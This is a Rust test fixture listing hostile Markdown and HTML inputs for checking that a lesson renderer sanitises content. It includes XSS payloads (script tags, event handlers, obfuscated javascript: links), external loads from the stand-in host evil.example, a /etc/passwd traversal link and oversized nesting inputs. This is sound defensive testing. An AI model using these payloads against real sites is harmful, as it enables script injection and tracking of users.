//! The hostile lesson Markdown corpus (issue #19), shared by `hostile.rs` (validation and the
//! renderer) and the end-to-end test in the real webview (`tests/tests/e2e.rs`, which includes
//! this file by path). A payload that ran would set `window.__pwned`.

/// Every payload, as a lesson author could write it.
pub fn payloads() -> Vec<String> {
    let mut p: Vec<String> = [
        // Raw HTML and event handlers.
        "<script>window.__pwned=1</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=window.__pwned=1>",
        "<img src=\"javascript:window.__pwned=1\">",
        "<svg onload=window.__pwned=1>",
        "<svg><script>window.__pwned=1</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"https://evil.example/x\">",
        "<details open ontoggle=window.__pwned=1>",
        "<div style=\"background:url(https://evil.example)\">x</div>",
        "<p style=\"behavior:url(x.htc);width:expression(alert(1))\">x</p>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example\"><input name=q><button formaction=javascript:alert(1)>go</button></form>",
        "<video><source onerror=window.__pwned=1></video>",
        "<audio src=x onerror=window.__pwned=1>",
        "<body onload=window.__pwned=1>",
        "<a href=\"javascript:window.__pwned=1\">click</a>",
        "<a href=\"//evil.example\">x</a>",
        "<div onmouseover=\"window.__pwned=1\">hover</div>",
        "<input autofocus onfocus=window.__pwned=1>",
        "<textarea onfocus=window.__pwned=1 autofocus>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
        "<!--><script>window.__pwned=1</script>-->",
        "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
        "<frameset onload=window.__pwned=1>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<select onfocus=window.__pwned=1 autofocus>",
        // Markdown links and images with dangerous URLs: inline, reference-style, autolinks.
        "[click](javascript:window.__pwned=1)",
        "[click](JaVaScRiPt:window.__pwned=1)",
        "[click](  javascript:window.__pwned=1  )",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
        "[click](&#106;avascript:window.__pwned=1)",
        "[click](&#x6A;&#x61;vascript:window.__pwned=1)",
        "[click](java%0ascript:window.__pwned=1)",
        "[click](javascript&colon;window.__pwned=1)",
        "[home](https://evil.example/track)",
        "[rel](../../../etc/passwd)",
        "[click][ref]\n\n[ref]: javascript:window.__pwned=1",
        "[click][ref]\n\n[ref]: https://evil.example \"title\"",
        "<javascript:window.__pwned=1>",
        "<https://evil.example/auto>",
        "<mailto:a@evil.example>",
        "![pixel](https://evil.example/p.gif)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x][img]\n\n[img]: https://evil.example/i.png",
        "[![x](https://evil.example/i.png)](javascript:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](javascript:alert(1) \"title\")",
        // Entity and escape tricks outside links.
        "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
        "\\<script\\>window.__pwned=1\\</script\\>",
        "`<script>window.__pwned=1</script>`",
        "```html\n<script>window.__pwned=1</script>\n```",
        "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    // Very long and deeply nested Markdown.
    p.push("> ".repeat(2_000) + "deep quote");
    p.push((0..1_000).map(|i| format!("{}- item\n", "  ".repeat(i))).collect());
    p.push("*".repeat(50_000) + "x" + &"*".repeat(50_000));
    p.push("[".repeat(100_000) + "x" + &"](javascript:alert(1))".repeat(2_000));
    p.push("a".repeat(1_000_000));
    p
}
